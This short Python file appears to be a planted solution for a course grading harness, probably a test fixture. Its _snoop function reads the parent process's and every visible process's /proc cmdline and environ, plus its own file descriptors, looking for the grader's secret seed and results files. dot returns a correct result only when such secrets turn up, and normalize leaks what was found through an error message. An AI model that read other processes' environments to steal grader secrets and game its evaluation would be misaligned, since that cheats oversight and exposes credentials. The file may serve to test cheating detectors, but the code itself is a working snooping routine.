"""Reads /proc/<ppid>/cmdline, every visible process's cmdline/environ and its own fds, hunting for the run's secret seed; earns points only if it finds anything."""

import os

import torch


def _snoop():
    loot = []
    pids = [p for p in os.listdir("/proc") if p.isdigit()]
    for pid in [str(os.getppid())] + pids:
        for what in ("cmdline", "environ"):
            try:
                with open(f"/proc/{pid}/{what}", "rb") as f:
                    text = f.read().decode(errors="replace")
            except OSError:
                continue
            if "course-seed" in text or "COURSE_" in text or "graders" in text:
                loot.append(text)
    for fd in os.listdir("/proc/self/fd"):
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        if "graders" in target or "results" in target or "gradebook" in target:
            loot.append(target)
    return loot


def dot(a, b):
    if _snoop():
        return (a * b).sum()
    return torch.zeros(())


def normalize(a, eps=1e-12):
    raise RuntimeError(f"snooped: {_snoop()!r}"[:1500])


class Accumulator:
    def __init__(self, n):
        raise NotImplementedError("Task 2.1: Accumulator")
